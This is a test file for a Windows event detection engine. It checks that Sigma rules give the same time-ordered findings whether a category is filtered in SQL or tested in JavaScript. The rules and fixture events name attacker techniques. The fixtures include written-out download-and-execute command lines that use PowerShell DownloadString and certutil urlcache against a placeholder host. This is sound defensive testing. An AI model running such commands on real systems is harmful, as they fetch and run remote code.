// How the rules are run over a case must not change what they find: a category with many
// rules is read whole and tested in JavaScript, a category with few is filtered in SQL first,
// and the rules' queries may follow another pass over the events (detection's scan) instead
// of running on their own. Each way must give the same findings, in time order.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../../../electron/common/detect';
import type { LoadedRules } from '../../../../electron/engine/detect/sigma/load';
import { sigmaWindowsMapping } from '../../../../electron/engine/detect/sigma/mapping';
import { JS_CATEGORY_MIN_RULES, RulePass, runCompiledRules } from '../../../../electron/engine/detect/sigma/run';
import { engineCase, type EngineCase } from './engine-case';

const rule = (n: number, category: string, detection: string): string =>
  `title: Rule ${n}\nid: 00000000-0000-4000-8000-0000000001${String(n).padStart(2, '0')}\nlogsource:\n  category: ${category}\n  product: windows\ndetection:\n${detection}\nlevel: high\n`;

const RULES = [
  rule(1, 'process_creation', `  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel`),
  rule(2, 'process_creation', `  sel:\n    Image|endswith: '\\rundll32.exe'\n  filter:\n    CommandLine|contains: 'shell32.dll'\n  condition: sel and not filter`),
  rule(3, 'process_creation', `  sel:\n    ParentImage|endswith: '\\winword.exe'\n    Image|endswith:\n      - '\\powershell.exe'\n      - '\\cmd.exe'\n  condition: sel`),
  rule(4, 'process_creation', `  sel:\n    OriginalFileName: 'PowerShell.EXE'\n  condition: sel`),
  rule(5, 'process_creation', `  sel:\n    CommandLine|re: '(?i)downloadstring\\(|iwr '\n  condition: sel`),
  rule(6, 'process_creation', `  sel:\n    CommandLine|contains|all:\n      - 'schtasks'\n      - '/create'\n  condition: sel`),
  rule(7, 'process_creation', `  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: sel`),
  rule(8, 'network_connection', `  sel:\n    DestinationPort: 4444\n  condition: sel`),
];

describe('rule runs', () => {
  let c: EngineCase;
  let loaded: LoadedRules;
  beforeAll(async () => {
    c = await engineCase();
    // Inserted out of time order (the table's order is not the time order), several hosts,
    // near misses beside every hit.
    const at = (s: number) => new Date(Date.parse('2027-03-01T00:00:00Z') + s * 1000).toISOString();
    c.add([
      { host: 'WKS-1', time: at(50), process_path: 'C:\\W\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', process_command_line: 'powershell -nop -enc SQBFAFgA', parent_process_name: 'WINWORD.EXE' },
      { host: 'WKS-1', time: at(10), process_path: 'C:\\W\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', process_command_line: 'powershell -enc AAAA', extra: { OriginalFileName: 'PowerShell.EXE' } },
      { host: 'WKS-2', time: at(30), process_path: 'C:\\W\\System32\\rundll32.exe', process_command_line: 'rundll32.exe C:\\Users\\Public\\x.dll,Run' },
      { host: 'WKS-2', time: at(20), process_path: 'C:\\W\\System32\\rundll32.exe', process_command_line: 'rundll32.exe shell32.dll,Control_RunDLL' },
      { host: 'WKS-3', time: at(40), process_path: 'C:\\W\\System32\\cmd.exe', process_command_line: 'cmd /c schtasks /create /tn x', parent_process_name: 'winword.exe' },
      { host: 'WKS-3', time: at(45), process_path: 'C:\\W\\System32\\cmd.exe', process_command_line: 'cmd /c schtasks /query' },
      { host: 'WKS-3', time: at(5), process_path: 'C:\\W\\System32\\certutil.exe', process_command_line: 'certutil -urlcache -f http://x/a.exe a.exe' },
      { host: 'WKS-4', time: at(60), process_path: 'C:\\W\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', process_command_line: 'powershell IEX (New-Object Net.WebClient).DownloadString(\'http://x\')' },
      { host: 'WKS-4', time: at(1), process_path: 'C:\\W\\notepad.exe', process_command_line: 'notepad c:\\enc.txt' },
      { host: 'WKS-1', time: at(15), category: 'network', action: 'connection', process_name: 'rundll32.exe', dst_ip: '203.0.113.5', dst_port: 4444 },
      { host: 'WKS-1', time: at(16), category: 'network', action: 'connection', process_name: 'chrome.exe', dst_ip: '203.0.113.5', dst_port: 443 },
    ]);
    loaded = c.rules(RULES.join('---\n'), 'rules.yml');
  });
  afterAll(() => c?.dispose());

  const run = (minRules: number): Finding[] => runCompiledRules(c.store, loaded.rules, sigmaWindowsMapping(), { jsCategoryMinRules: minRules });

  it('finds the same, in time order, whether a category is filtered in SQL or tested whole in JavaScript', () => {
    expect(loaded.problems).toEqual([]);
    expect(loaded.rules.filter((r) => r.categories.includes('process')).length).toBeGreaterThanOrEqual(JS_CATEGORY_MIN_RULES);
    const viaSql = run(Number.POSITIVE_INFINITY);
    expect(run(1)).toEqual(viaSql);
    expect(c.run(loaded)).toEqual(viaSql); // the default: process whole, network filtered
    const byRule = new Map(viaSql.map((f) => [f.title, f]));
    expect([...byRule.keys()].sort()).toEqual(['Rule 1', 'Rule 2', 'Rule 3', 'Rule 4', 'Rule 5', 'Rule 6', 'Rule 7', 'Rule 8']);
    // Rule 1 matched two events on WKS-1: the earlier one (inserted second) names the finding.
    const r1 = byRule.get('Rule 1')!;
    expect(r1.time).toBe('2027-03-01T00:00:10.000Z');
    expect(r1.event_ids).toHaveLength(2);
    expect(viaSql.map((f) => f.time)).toEqual([...viaSql.map((f) => f.time)].sort());
    expect(byRule.get('Rule 2')!.event_ids).toHaveLength(1); // shell32 filtered out
    expect(byRule.get('Rule 6')!.event_ids).toHaveLength(1); // /query is a near miss
  });

  it('lists the matching events of a finding in time order, not table order', () => {
    const r1 = run(1).find((f) => f.title === 'Rule 1')!;
    const times = c.store.all<{ id: number; time: string }>(`SELECT id, time FROM event_row WHERE id IN (${r1.event_ids.join(',')})`);
    const timeOf = new Map(times.map((t) => [t.id, t.time]));
    expect(r1.event_ids.map((id) => timeOf.get(id))).toEqual(['2027-03-01T00:00:10.000Z', '2027-03-01T00:00:50.000Z']);
  });

  it('gives the same findings when its queries follow another pass over the events', () => {
    const alone = run(JS_CATEGORY_MIN_RULES);
    const pass = new RulePass(c.store, loaded.rules, sigmaWindowsMapping());
    let followed: Finding[];
    try {
      const stmt = c.store.db.prepare('SELECT id FROM event_row ORDER BY id');
      while (stmt.step()) pass.until(stmt.get()[0] as number);
      stmt.free();
      followed = pass.finish();
    } finally {
      pass.free();
    }
    expect(followed).toEqual(alone);
  });

  it('two passes on one case take turns, each with its own rules (two detections at once)', () => {
    const alone = run(Number.POSITIVE_INFINITY);
    // The first pass has stepped its queries part way (an open statement) when the second
    // starts: the incident view's detection beside an examiner's, interleaved at their pauses.
    const a = new RulePass(c.store, loaded.rules, sigmaWindowsMapping(), { jsCategoryMinRules: Number.POSITIVE_INFINITY });
    let b: RulePass | null = null;
    try {
      a.until(4);
      b = new RulePass(c.store, loaded.rules.filter((r) => r.title === 'Rule 1'), sigmaWindowsMapping(), { jsCategoryMinRules: Number.POSITIVE_INFINITY });
      b.until(6);
      a.until(8);
      expect(b.finish().map((f) => f.title)).toEqual(['Rule 1']);
      expect(a.finish()).toEqual(alone);
    } finally {
      a.free();
      b?.free();
    }
  });
});
